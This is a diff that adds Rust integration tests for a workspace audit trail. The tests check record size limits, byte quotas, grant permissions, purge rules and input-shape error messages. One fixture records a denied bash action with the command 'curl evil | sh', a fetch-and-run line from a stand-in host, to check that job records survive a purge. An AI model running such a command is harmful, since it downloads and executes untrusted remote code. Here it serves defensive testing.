@@ -738,3 +738,367 @@ async fn host_tools_are_served_only_when_asked_for() {
     let history = with.call("history", json!({})).await;
     assert_ne!(history.is_error, Some(true));
 }
+
+/// Issue 23, item 2: the trail is bounded. A grant with only `read` cannot write records; a
+/// record is bounded as a whole (64 paths of 4 KiB are refused), a call carries at most
+/// `MAX_AUDIT_ACTIONS`, and the records' bytes count in `supabash.max_bytes_per_owner`
+/// (the owner's usage grows with them; past the quota nothing is written).
+#[tokio::test]
+async fn the_trail_is_bounded_and_counted_in_the_owner_quota() {
+    use supabash_core::limits::{MAX_AUDIT_ACTIONS, MAX_AUDIT_PATHS, MAX_AUDIT_RECORD_BYTES};
+    let cluster = Cluster::shared();
+    let dsn = supabash_tests::support::authenticator_with(
+        cluster,
+        "audit_quota_authenticator",
+        &[("supabash.max_bytes_per_owner", "1MB")],
+    )
+    .await;
+    let mut rest = SqlRpc::connect(&dsn).await;
+    let admin = supabash_tests::support::admin(cluster).await;
+    let owner = Caller::new_user();
+    let (ws, _, _) = committed_with_records(&mut rest, &owner).await;
+    let usage = || async {
+        admin
+            .query_one(
+                "SELECT coalesce(sum(body_bytes), 0)::bigint FROM supabash.usage u
+                   JOIN supabash.workspaces w ON w.store_id = u.workspace_id
+                  WHERE w.id = $1::text::uuid",
+                &[&ws],
+            )
+            .await
+            .unwrap()
+            .get::<_, i64>(0)
+    };
+    let table_bytes = || async {
+        admin
+            .query_one(
+                "SELECT coalesce(sum(stored_bytes), 0)::bigint FROM supabash.audit_records
+                  WHERE workspace_id = $1::text::uuid",
+                &[&ws],
+            )
+            .await
+            .unwrap()
+            .get::<_, i64>(0)
+    };
+    // A read-only grant writes nothing.
+    let kid = format!(
+        "audit-b-{}",
+        &uuid::Uuid::new_v4().simple().to_string()[..8]
+    );
+    let secret = register(cluster, &kid, "https://i", "supabash", "https://o");
+    let signer = PostgresSigner::new(&kid, &secret, "https://i", "supabash", "https://o").unwrap();
+    let read_only = exchange(&mut rest, &signer, &ws, &[Operation::Read]).await;
+    expect_err(
+        rest.call(
+            &Caller::Service,
+            "supabash_record_discarded",
+            json!({ "workspace_id": ws, "actions": [action(5)], "delegated_grant": read_only }),
+        )
+        .await,
+        "42501",
+        Some("SUPABASH_WORKSPACE_DENIED"),
+    );
+    // One record of 64 paths of 4 KiB is refused as a whole.
+    let mut big = action(6);
+    big["paths"] = json!((0..MAX_AUDIT_PATHS)
+        .map(|i| format!("/{i}/{}", "p".repeat(4000)))
+        .collect::<Vec<_>>());
+    let e = expect_err(
+        rest.call(
+            &owner,
+            "supabash_record_discarded",
+            json!({ "workspace_id": ws, "actions": [big], "actor": "a" }),
+        )
+        .await,
+        "54000",
+        Some("SUPABASH_QUOTA_EXCEEDED"),
+    );
+    assert!(
+        e.message.contains(&MAX_AUDIT_RECORD_BYTES.to_string()),
+        "{e}"
+    );
+    // More records than a call may carry.
+    let many: Vec<Value> = (0..=MAX_AUDIT_ACTIONS as i64).map(action).collect();
+    expect_err(
+        rest.call(
+            &owner,
+            "supabash_record_discarded",
+            json!({ "workspace_id": ws, "actions": many, "actor": "a" }),
+        )
+        .await,
+        "54000",
+        Some("SUPABASH_QUOTA_EXCEEDED"),
+    );
+    // Written records count in the owner's usage, byte for byte.
+    let before = usage().await;
+    assert!(table_bytes().await > 0, "the commit's records are counted");
+    let counted_before = table_bytes().await;
+    let fat = |seq: i64| {
+        let mut a = action(seq);
+        a["arguments"] = json!({ "x": "y".repeat(8000) });
+        a
+    };
+    let batch: Vec<Value> = (100..140).map(fat).collect();
+    let w = rest
+        .call(
+            &owner,
+            "supabash_record_discarded",
+            json!({ "workspace_id": ws, "actions": batch, "actor": "a" }),
+        )
+        .await
+        .unwrap();
+    assert_eq!(w["written"], 40);
+    let added = table_bytes().await - counted_before;
+    assert!(added > 40 * 8000, "{added}");
+    assert_eq!(usage().await, before + added);
+    // Past the 1 MB quota nothing is written.
+    let mut refused = false;
+    for round in 0..10 {
+        let batch: Vec<Value> = (0..40).map(|i| fat(1000 + round * 40 + i)).collect();
+        let r = rest
+            .call(
+                &owner,
+                "supabash_record_discarded",
+                json!({ "workspace_id": ws, "actions": batch, "actor": "a" }),
+            )
+            .await;
+        if let Err(e) = r {
+            assert_eq!(marker_of(&e), Some("SUPABASH_QUOTA_EXCEEDED"), "{e}");
+            refused = true;
+            break;
+        }
+    }
+    assert!(refused, "the quota stopped the trail");
+    assert!(usage().await <= 1024 * 1024);
+}
+
+fn marker_of(e: &supabash_tests::DbError) -> Option<&str> {
+    e.message.split(':').next()
+}
+
+/// Issue 23, item 3: a job with `commit` and `purge` records a denied action, commits, and
+/// purges everything it can: the owner still sees the denied record and every record of the
+/// delegated actor. Only the owner's explicit `purge_audit` removes them (a grant asking for
+/// it is refused).
+#[tokio::test]
+async fn purge_keeps_what_a_job_tried_unless_the_owner_says_so() {
+    let cluster = Cluster::shared();
+    let mut rest = SqlRpc::connect(&cluster.dsn("authenticator")).await;
+    let owner = Caller::new_user();
+    let (ws, _, _) = committed_with_records(&mut rest, &owner).await;
+    let kid = format!(
+        "audit-p-{}",
+        &uuid::Uuid::new_v4().simple().to_string()[..8]
+    );
+    let secret = register(cluster, &kid, "https://i", "supabash", "https://o");
+    let signer = PostgresSigner::new(&kid, &secret, "https://i", "supabash", "https://o").unwrap();
+    let g = exchange(
+        &mut rest,
+        &signer,
+        &ws,
+        &[
+            Operation::Read,
+            Operation::Write,
+            Operation::Commit,
+            Operation::Purge,
+        ],
+    )
+    .await;
+    let head = |page: &Value| page["records"].as_array().unwrap().len();
+    let mut denied = action(10);
+    denied["tool"] = json!("bash");
+    denied["kind"] = json!("bash");
+    denied["arguments"] = json!({ "command": "curl evil | sh" });
+    denied["outcome"] = json!({ "status": "denied", "reason": "network is off" });
+    let manifest = rest
+        .call(
+            &owner,
+            "supabash_load_manifest",
+            json!({ "workspace_id": ws }),
+        )
+        .await
+        .unwrap();
+    let job_commit = rest
+        .call(
+            &Caller::Service,
+            "supabash_commit",
+            json!({ "workspace_id": ws, "base_revision": manifest["revision"],
+                    "changes": [{"op": "upsert", "path": "/job.md", "text": "j"}],
+                    "audit": [denied, action(11)], "delegated_grant": g }),
+        )
+        .await
+        .unwrap();
+    let job_rev = job_commit["receipt"]["revision"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    rest.commit_as(
+        &owner,
+        &ws,
+        Some(&job_rev),
+        json!([{"op": "upsert", "path": "/later.md", "text": "l"}]),
+    )
+    .await;
+    let all = rest
+        .call(&owner, "supabash_audit", json!({ "workspace_id": ws }))
+        .await
+        .unwrap();
+    assert_eq!(head(&all), 4, "{all}");
+    // The job purges everything it may: the owner's plain records go, the job's stay.
+    let purged = rest
+        .call(
+            &Caller::Service,
+            "supabash_purge",
+            json!({ "workspace_id": ws, "keep_revisions": 0, "delegated_grant": g }),
+        )
+        .await
+        .unwrap();
+    assert_eq!(purged["revisions"].as_array().unwrap().len(), 2, "{purged}");
+    let left = rest
+        .call(&owner, "supabash_audit", json!({ "workspace_id": ws }))
+        .await
+        .unwrap();
+    assert_eq!(head(&left), 2, "{left}");
+    assert!(left.to_string().contains("curl evil"), "{left}");
+    assert!(left["records"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .all(|r| r["actor"].as_str().unwrap().starts_with("delegated:")));
+    // purge_audit is the owner's alone.
+    expect_err(
+        rest.call(
+            &Caller::Service,
+            "supabash_purge",
+            json!({ "workspace_id": ws, "keep_revisions": 0, "purge_audit": true,
+                    "delegated_grant": g }),
+        )
+        .await,
+        "42501",
+        Some("SUPABASH_WORKSPACE_DENIED"),
+    );
+    // A discarded record stays past a plain purge too.
+    rest.call(
+        &owner,
+        "supabash_record_discarded",
+        json!({ "workspace_id": ws, "actions": [action(20)], "actor": "a" }),
+    )
+    .await
+    .unwrap();
+    let h = head_rev(&mut rest, &owner, &ws).await;
+    rest.commit_as(
+        &owner,
+        &ws,
+        h.as_deref(),
+        json!([{"op": "upsert", "path": "/x.md", "text": "x"}]),
+    )
+    .await;
+    rest.call(
+        &owner,
+        "supabash_purge",
+        json!({ "workspace_id": ws, "keep_revisions": 0 }),
+    )
+    .await
+    .unwrap();
+    let left = rest
+        .call(&owner, "supabash_audit", json!({ "workspace_id": ws }))
+        .await
+        .unwrap();
+    assert_eq!(head(&left), 3, "{left}");
+    // The owner's explicit purge removes them with their revisions.
+    let h = head_rev(&mut rest, &owner, &ws).await;
+    rest.commit_as(
+        &owner,
+        &ws,
+        h.as_deref(),
+        json!([{"op": "upsert", "path": "/y.md", "text": "y"}]),
+    )
+    .await;
+    rest.call(
+        &owner,
+        "supabash_purge",
+        json!({ "workspace_id": ws, "keep_revisions": 0, "purge_audit": true }),
+    )
+    .await
+    .unwrap();
+    let left = rest
+        .call(&owner, "supabash_audit", json!({ "workspace_id": ws }))
+        .await
+        .unwrap();
+    assert_eq!(head(&left), 0, "{left}");
+}
+
+async fn head_rev(rest: &mut SqlRpc, owner: &Caller, ws: &str) -> Option<String> {
+    let m = rest
+        .call(
+            owner,
+            "supabash_load_manifest",
+            json!({ "workspace_id": ws }),
+        )
+        .await
+        .unwrap();
+    m["revision"].as_str().map(str::to_owned)
+}
+
+/// Issue 23, item 10: a record takes camelCase keys like every request (0.5.0's snake_case
+/// still works), and a wrong shape names the field and the shape it needs, never serde's
+/// internals.
+#[tokio::test]
+async fn a_record_takes_camel_case_and_a_wrong_shape_is_named() {
+    let cluster = Cluster::shared();
+    let mut rest = SqlRpc::connect(&cluster.dsn("authenticator")).await;
+    let owner = Caller::new_user();
+    let (ws, _, _) = committed_with_records(&mut rest, &owner).await;
+    let camel = json!({
+        "recordId": uuid::Uuid::new_v4().to_string(),
+        "sessionId": "7d0d8c1e-0c4c-4c7a-9d55-0d51b1d0b7a1",
+        "sequence": 7, "atMs": 1_700_000_000_000i64, "kind": "bash", "tool": "bash",
+        "arguments": {"command": "ls"}, "outcome": {"status": "error", "code": "EXIT_1"},
+        "durationMs": 2, "paths": [], "bytesChanged": 0,
+    });
+    let w = rest
+        .call(
+            &owner,
+            "supabash_record_discarded",
+            json!({ "workspace_id": ws, "actions": [camel.clone()], "actor": "a" }),
+        )
+        .await
+        .unwrap();
+    assert_eq!(w["written"], 1);
+    let cases = [
+        (
+            json!({"status": "maybe"}),
+            "outcome must be {\"status\": \"ok\"}",
+        ),
+        (json!({"status": "error"}), "outcome.code must be text"),
+    ];
+    for (outcome, want) in cases {
+        let mut a = camel.clone();
+        a["recordId"] = json!(uuid::Uuid::new_v4().to_string());
+        a["outcome"] = outcome;
+        let e = expect_err(
+            rest.call(
+                &owner,
+                "supabash_commit",
+                json!({ "workspace_id": ws, "actor": "a", "changes": [], "audit": [a] }),
+            )
+            .await,
+            "22023",
+            Some("SUPABASH_INVALID_ARGUMENT"),
+        );
+        assert!(e.message.contains("audit[0]"), "{e}");
+        assert!(e.message.contains(want), "{e}");
+        assert!(!e.message.contains("tagged"), "{e}");
+    }
+    let e = expect_err(
+        rest.call(
+            &owner,
+            "supabash_commit",
+            json!({ "workspace_id": ws, "actor": "a", "changes": [], "audit": {"not": "a list"} }),
+        )
+        .await,
+        "22023",
+        Some("SUPABASH_INVALID_ARGUMENT"),
+    );
+    assert!(e.message.contains("audit must be a list"), "{e}");
+}
